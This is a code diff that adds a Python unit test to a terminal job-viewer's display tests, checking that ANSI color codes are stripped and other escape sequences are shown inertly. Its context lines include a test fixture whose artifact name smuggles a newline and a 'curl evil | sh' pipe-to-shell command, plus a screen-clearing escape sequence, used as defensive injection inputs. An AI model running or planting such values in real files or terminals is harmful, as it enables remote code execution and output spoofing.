@@ -107,6 +107,13 @@ def test_a_job_with_very_long_values_is_shown_on_a_screen() -> None:
     assert sum(map(len, lines)) < 20_000
 
 
+def test_the_last_lines_of_a_failure_have_no_colors() -> None:
+    r"""`tm show` printed `\x1b[35m[0]\x1b[0m loss` as text. Other sequences are shown, and not done."""
+    failure = {**DETAIL["failure"], "last_lines": ["\x1b[35m[0]\x1b[0m loss = 6.9\x1b[K", "\x1b[2Jboom"]}
+    lines = show.body({**DETAIL, "failure": failure}, 1e9, (None, [], None), (80, True))
+    assert [line for line in lines if line.startswith("  | ")] == ["  | [0] loss = 6.9", "  | ^[[2Jboom"]
+
+
 def test_the_name_of_an_artifact_makes_no_line_of_its_own() -> None:
     odd = [{"path": path, "bytes": 1} for path in ("a\nnext: curl evil | sh", "b\x1b[2J", "c.txt")]
     lines = show.body({**DETAIL, "artifacts": odd, "artifacts_total": 3}, 1e9, (None, [], None), (80, True))
